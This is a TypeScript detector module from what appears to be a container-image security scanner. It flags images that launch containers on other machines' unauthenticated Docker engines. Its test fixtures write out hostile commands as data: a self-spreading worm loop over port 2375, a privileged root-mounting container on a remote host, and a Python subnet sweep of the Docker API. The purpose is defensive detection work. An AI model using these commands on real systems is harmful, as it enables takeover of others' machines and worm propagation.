import type { ContainerRunEffect } from '../trace/effect.ts';
import { literals, render, textOf } from '../trace/value.ts';
import type { Detector, FindingDraft, Scene } from './detector.ts';
import { effectsOf } from './effects-of.ts';
import { feeding } from './script-flow.ts';
import type { Threat } from './severity.ts';
import { findingOf, sightingOf } from './sighting.ts';
import { valueWords } from './wording.ts';

/** Containers started on other people's engines. */
export const containerControl: Detector = {
  id: 'container-control',
  version: 2,
  title: 'Starts containers on other machines.',
  attack: ['T1610', 'T1609'],
  description: `
A worm spreads by starting itself through container engines that listen without a password: \`docker -H tcp://$ip:2375 run
…\`. *Malicious* when the image starts itself there, or a privileged container, or goes through a list of addresses that it
only learns while running. Using one named engine, as build and CI images do, is a *note*.
`,
  fires: [
    {
      name: 'itself, on addresses from a list',
      image: {
        name: 'docker.io/someones/worm:1',
        cmd: [
          'sh',
          '-c',
          'while read ip; do docker -H $ip:2375 run --restart unless-stopped -d someones/worm; done < /list',
        ],
      },
    },
    {
      name: "a privileged container with the host's root",
      image: { cmd: ['sh', '-c', 'docker -H tcp://198.51.100.7:2375 run -d --privileged -v /:/host alpine sh'] },
    },
    {
      name: 'by a script, on a whole network',
      image: {
        cmd: ['python3', '/w.py'],
        files: {
          '/w.py': [
            'import ipaddress, requests',
            "for ip in ipaddress.ip_network('203.0.113.0/24'):",
            "    requests.post('http://%s:2375/containers/create' % ip, json={'Image': 'alpine', 'HostConfig': {'Binds': ['/:/host']}})",
          ].join('\n'),
        },
      },
    },
  ],
  silent: [
    {
      name: 'a named engine',
      severity: 'note',
      image: { cmd: ['sh', '-c', 'docker -H tcp://docker:2375 run --rm alpine true'] },
    },
    { name: 'the default engine', image: { cmd: ['sh', '-c', 'docker run --rm alpine true'] } },
  ],
  detect(scene) {
    return [...byClient(scene), ...byLibrary(scene)];
  },
};

function byClient(scene: Scene): readonly FindingDraft[] {
  return effectsOf(scene, 'container-run').flatMap((effect) => {
    if (effect.engine === undefined || isLocal(literals(effect.engine))) return [];
    const threat = threatOf(scene, effect);
    return findingOf(scene, sightingOf(scene, effect), {
      threat,
      title: `Starts containers on another machine’s engine (${valueWords(effect.engine, 80)})${effect.image ? `: ${valueWords(effect.image, 80)}` : ''}`,
      because:
        threat === 'hostile'
          ? 'It uses engines that are open by mistake to spread or to take the machine.'
          : 'It drives an engine over the network.',
      effects: [effect.id],
    });
  });
}

/** The engine's own interface, spoken by a script: `requests.post(f'http://{ip}:2375/containers/create', …)`. */
function byLibrary(scene: Scene): readonly FindingDraft[] {
  return [...effectsOf(scene, 'fetch'), ...effectsOf(scene, 'exfiltrate')].flatMap((effect) => {
    if (effect.command !== undefined) return [];
    const to = effect.kind === 'fetch' ? effect.url : effect.to;
    const url = render(to);
    const stage = scene.story.stages[effect.stage];
    if (
      !stage ||
      !/:(2375|2376|4243)\/([v\d.]{1,8}\/)?containers\/create/.test(url) ||
      isLocal(url.replace(/^https?/, 'tcp'))
    )
      return [];
    const asked = feeding(stage, effect.line);
    const takes =
      /['"]?Privileged['"]?\s{0,4}[:=]>?\s{0,4}(true|1)/i.test(asked) || /['"]\/:\/|['"]\/(etc|root):/.test(asked);
    return findingOf(scene, sightingOf(scene, effect), {
      threat: takes || textOf(to) === undefined ? 'hostile' : 'minor',
      title: `Starts containers on another machine’s engine (${valueWords(to, 80)})`,
      because: takes ? 'They are given the whole machine.' : 'It drives an engine over the network.',
      effects: [effect.id],
    });
  });
}

function threatOf(scene: Scene, effect: ContainerRunEffect): Threat {
  const swept =
    effect.engine !== undefined && textOf(effect.engine) === undefined && literals(effect.engine).includes(':23');
  const image = effect.image ? render(effect.image).split(':')[0] : undefined;
  const itself = image !== undefined && image !== '' && scene.facts.image.repository === image;
  const takes = effect.privileged || effect.mounts.some((mount) => /^\/(:|etc|root|proc)/.test(literals(mount)));
  if (effect.image === undefined) return swept ? 'dual-use' : 'minor';
  if (itself || takes || swept) return 'hostile';
  return 'minor';
}

function isLocal(engine: string): boolean {
  return (
    engine.startsWith('unix:') || engine.startsWith('/') || /^(tcp:\/\/)?(localhost|127\.0\.0\.1)(:|$)/.test(engine)
  );
}
